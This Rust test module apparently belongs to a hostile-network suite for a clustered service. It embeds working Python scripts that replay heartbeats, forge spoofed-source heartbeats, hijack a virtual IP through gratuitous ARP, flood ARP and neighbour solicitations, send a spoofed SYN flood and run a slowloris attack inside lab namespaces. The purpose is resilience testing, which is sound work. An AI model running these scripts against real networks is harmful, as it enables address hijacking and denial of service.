//! A rogue host for the hostile-network suite: a namespace on the nodes'
//! bridge that captures and replays heartbeats, and sends forged ones with
//! a spoofed source address (raw IPv4, as any host on the segment can).

use crate::netns::Lab;

/// Run in a node's namespace (`python3 -c`): prints, as hex, the UDP payload
/// of the first heartbeat the node sends (IPv4, destination port 7947).
pub const CAPTURE: &str = r#"
import socket, time
# ETH_P_ALL: a socket bound to one protocol does not see outgoing frames.
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)); s.bind(("eth0", 0)); s.settimeout(1)
t0 = time.monotonic()
while time.monotonic() - t0 < 5:
    try: f, addr = s.recvfrom(65535)
    except socket.timeout: continue
    if addr[2] != socket.PACKET_OUTGOING or f[12:14] != b"\x08\x00": continue
    ihl = (f[14] & 15) * 4
    if f[23] != 17: continue
    udp = f[14 + ihl:]
    if int.from_bytes(udp[2:4], "big") == 7947:
        print(udp[8:].hex()); break
"#;

/// Run in the rogue's namespace (`python3 -c`), arguments SECONDS SOURCE
/// TARGETS PAYLOADS: for SECONDS, every 20 ms, sends each hex payload of
/// the comma-separated PAYLOADS from SOURCE:7947 (spoofed: raw IPv4 with the
/// header written here) to each comma-separated TARGET:7947. A payload
/// prefixed `seq:` is an unsigned heartbeat whose sequence number (bytes
/// 17..25) is raised on every send, as a forger would. Prints how many
/// datagrams it sent (on standard error).
pub const FORGE: &str = r#"
import socket, sys, time
secs = float(sys.argv[1]); src = sys.argv[2]; targets = sys.argv[3].split(","); payloads = sys.argv[4].split(",")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
srcb = socket.inet_aton(src); sent = 0; seq = 1 << 40; t0 = time.monotonic()
while time.monotonic() - t0 < secs:
    seq += 1
    for p in payloads:
        bump = p.startswith("seq:")
        body = bytearray(bytes.fromhex(p[4:] if bump else p))
        if bump: body[17:25] = seq.to_bytes(8, "big")
        udp = (7947).to_bytes(2, "big") * 2 + (8 + len(body)).to_bytes(2, "big") + b"\0\0" + bytes(body)
        for t in targets:
            ip = bytes([0x45, 0]) + (20 + len(udp)).to_bytes(2, "big") + b"\0\0\0\0" + bytes([64, 17]) + b"\0\0" + srcb + socket.inet_aton(t)
            s.sendto(ip + udp, (t, 0)); sent += 1
    time.sleep(0.02)
print(sent, file=sys.stderr)
"#;

/// The first heartbeat `node` sends, captured in its namespace.
pub fn capture_heartbeat(lab: &Lab, node: &str) -> String {
    let out = lab.exec_ok(node, &["python3", "-c", CAPTURE]);
    let hex = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(!hex.is_empty(), "no heartbeat captured on {node}");
    hex
}

/// Starts [`FORGE`] in namespace `rogue` for `secs`; its output goes to `log`.
pub fn forge(
    lab: &mut Lab,
    rogue: &str,
    secs: f64,
    source: &str,
    targets: &[&str],
    payloads: &[String],
    log: &std::path::Path,
) -> u32 {
    lab.spawn(
        rogue,
        &[
            "python3",
            "-c",
            FORGE,
            &secs.to_string(),
            source,
            &targets.join(","),
            &payloads.join(","),
        ],
        log,
    )
}

/// Run in the rogue's namespace (`python3 -c`), arguments SECONDS VIP: for
/// SECONDS, every 50 ms, announces VIP with its own MAC in both gratuitous
/// forms Linux honours (a request and a reply with sender = target = VIP, the
/// reply's target MAC its own), as a host stealing the address would.
pub const STEAL_ARP: &str = r#"
import socket, sys, time
secs = float(sys.argv[1]); vip = socket.inet_aton(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
head = b"\xff" * 6 + mac + b"\x08\x06" + bytes([0, 1, 8, 0, 6, 4, 0])
request = head + b"\x01" + mac + vip + b"\x00" * 6 + vip
reply = head + b"\x02" + mac + vip + mac + vip
t0 = time.monotonic(); sent = 0
while time.monotonic() - t0 < secs:
    s.send(request); s.send(reply); sent += 2; time.sleep(0.05)
print(sent, file=sys.stderr)
"#;

/// Run in the rogue's namespace (`python3 -c`), arguments SECONDS OWNER_MAC
/// VIP4 VIP6 RATE: for SECONDS, at RATE frames a second (0: as fast as one
/// Python loop can), sends ARP requests
/// for VIP4 and neighbour solicitations for VIP6 (checksummed, with a source
/// link-layer option) unicast to OWNER_MAC, so the bridge delivers the flood
/// to the owner only and the measuring client stays quiet. Prints the frames
/// sent and the rate (on standard error) as `sent RATE`.
pub const FLOOD: &str = r#"
import socket, sys, time
secs = float(sys.argv[1]); owner = bytes.fromhex(sys.argv[2].replace(":", ""))
vip4 = socket.inet_aton(sys.argv[3]); vip6 = socket.inet_pton(socket.AF_INET6, sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
arp = owner + mac + b"\x08\x06" + bytes([0, 1, 8, 0, 6, 4, 0, 1]) + mac + socket.inet_aton("192.0.2.66") + b"\0" * 6 + vip4
src6 = socket.inet_pton(socket.AF_INET6, "2001:db8::66")
icmp = bytearray([135, 0, 0, 0, 0, 0, 0, 0]) + vip6 + bytes([1, 1]) + mac
pseudo = src6 + vip6 + len(icmp).to_bytes(4, "big") + bytes([0, 0, 0, 58]) + icmp
total = sum(int.from_bytes(pseudo[i:i + 2], "big") for i in range(0, len(pseudo), 2))
while total > 0xffff: total = (total & 0xffff) + (total >> 16)
icmp[2:4] = (~total & 0xffff).to_bytes(2, "big")
ns = owner + mac + b"\x86\xdd" + bytes([0x60, 0, 0, 0]) + len(icmp).to_bytes(2, "big") + bytes([58, 255]) + src6 + vip6 + bytes(icmp)
rate = float(sys.argv[5]); sent = 0; t0 = time.monotonic(); send = s.send
while True:
    for _ in range(50):
        send(arp); send(ns)
    sent += 100
    now = time.monotonic() - t0
    if now >= secs: break
    if rate > 0 and sent / rate > now: time.sleep(sent / rate - now)
took = time.monotonic() - t0
print(sent, int(sent / took), file=sys.stderr)
"#;

/// Run in the client's namespace (`python3 -c`), arguments COUNT INTERVAL
/// VIP4 VIP6 CLIENT4 CLIENT6: asks COUNT times, INTERVAL seconds apart,
/// alternately who-has VIP4 (broadcast ARP) and a neighbour solicitation for
/// VIP6 (to its solicited-node group), and times each answer (200 ms at
/// most). Prints JSON: asked, answered, and the answer times in ms.
pub const ASK: &str = r#"
import json, select, socket, sys, time
count = int(sys.argv[1]); interval = float(sys.argv[2])
vip4 = socket.inet_aton(sys.argv[3]); vip6 = socket.inet_pton(socket.AF_INET6, sys.argv[4])
me4 = socket.inet_aton(sys.argv[5]); me6 = socket.inet_pton(socket.AF_INET6, sys.argv[6])
a = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)); a.bind(("eth0", 0))
n = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86dd)); n.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
arp = b"\xff" * 6 + mac + b"\x08\x06" + bytes([0, 1, 8, 0, 6, 4, 0, 1]) + mac + me4 + b"\0" * 6 + vip4
group = bytes.fromhex("ff0200000000000000000001ff") + vip6[13:]
icmp = bytearray([135, 0, 0, 0, 0, 0, 0, 0]) + vip6 + bytes([1, 1]) + mac
pseudo = me6 + group + len(icmp).to_bytes(4, "big") + bytes([0, 0, 0, 58]) + icmp
total = sum(int.from_bytes(pseudo[i:i + 2], "big") for i in range(0, len(pseudo), 2))
while total > 0xffff: total = (total & 0xffff) + (total >> 16)
icmp[2:4] = (~total & 0xffff).to_bytes(2, "big")
ns = bytes([0x33, 0x33, 0xff]) + vip6[13:] + mac + b"\x86\xdd" + bytes([0x60, 0, 0, 0]) + len(icmp).to_bytes(2, "big") + bytes([58, 255]) + me6 + group + bytes(icmp)
def answered(sock, v6):
    deadline = time.monotonic() + 0.2
    while True:
        left = deadline - time.monotonic()
        if left <= 0 or not select.select([sock], [], [], left)[0]: return False
        f = sock.recv(2048)
        if v6:
            if f[20] == 58 and f[54] == 136 and f[62:78] == vip6 and f[38:54] == me6: return True
        elif f[20:22] == b"\x00\x02" and f[28:32] == vip4 and f[38:42] == me4: return True
times = []; asked = 0
for i in range(count):
    v6 = i % 2 == 1; sock = n if v6 else a
    while select.select([sock], [], [], 0)[0]: sock.recv(2048)
    t = time.monotonic(); sock.send(ns if v6 else arp); asked += 1
    if answered(sock, v6): times.append((time.monotonic() - t) * 1000)
    time.sleep(max(0, interval - (time.monotonic() - t)))
print(json.dumps({"asked": asked, "answered": len(times), "ms": times}))
"#;

/// Run in the rogue's namespace (`python3 -c`), arguments COUNT VIP PORT
/// SPOOFED: sends COUNT TCP SYNs to VIP:PORT from SPOOFED (an address nobody
/// holds, so the SYN-ACKs go nowhere and each SYN is a half-open
/// connection), from distinct source ports. Prints the SYNs sent (standard error).
pub const SYN_FLOOD: &str = r#"
import random, socket, struct, sys
count = int(sys.argv[1]); vip = socket.inet_aton(sys.argv[2]); port = int(sys.argv[3]); src = socket.inet_aton(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def csum(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t > 0xffff: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
for i in range(count):
    sport = 10000 + i
    tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", csum(src + vip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0, 64, 6, 0, src, vip)
    s.sendto(ip + tcp, (sys.argv[2], 0))
print(count, file=sys.stderr)
"#;

/// Run in the rogue's namespace (`python3 -c`), arguments COUNT VIP PORT
/// SECONDS: opens COUNT TCP connections to VIP:PORT (non-blocking, all at
/// once), then for SECONDS trickles one byte every 2 s on each still open,
/// as a slowloris client does. Prints JSON on standard error: opened (the
/// handshake completed), alive (still open at the end, the forwarder held
/// them), refused (reset or closed by the other side).
pub const SLOW: &str = r#"
import json, select, socket, sys, time
count = int(sys.argv[1]); vip = sys.argv[2]; port = int(sys.argv[3]); secs = float(sys.argv[4])
socks = {}
for _ in range(count):
    c = socket.socket(); c.setblocking(False)
    try: c.connect((vip, port))
    except BlockingIOError: pass
    socks[c.fileno()] = c
p = select.poll()
for fd in socks: p.register(fd, select.POLLOUT)
opened = 0; live = {}; deadline = time.monotonic() + 10
while len(live) + (count - len(socks)) < count and time.monotonic() < deadline and socks:
    for fd, ev in p.poll(500):
        c = socks.pop(fd, None)
        if c is None: continue
        p.unregister(fd)
        if c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            opened += 1; live[fd] = c
refused = 0; t0 = time.monotonic()
r = select.poll()
for fd in live: r.register(fd, select.POLLIN)
while time.monotonic() - t0 < secs:
    for fd, c in list(live.items()):
        try: c.send(b"G")
        except OSError:
            r.unregister(fd); del live[fd]; refused += 1
    # A reset or close by the other side shows as readable (EOF or an error).
    for fd, ev in r.poll(0):
        c = live.get(fd)
        if c is None: continue
        try: gone = c.recv(1) == b""
        except OSError: gone = True
        if gone:
            r.unregister(fd); del live[fd]; refused += 1
    time.sleep(2)
print(json.dumps({"opened": opened, "alive": len(live), "refused": refused}), file=sys.stderr)
"#;
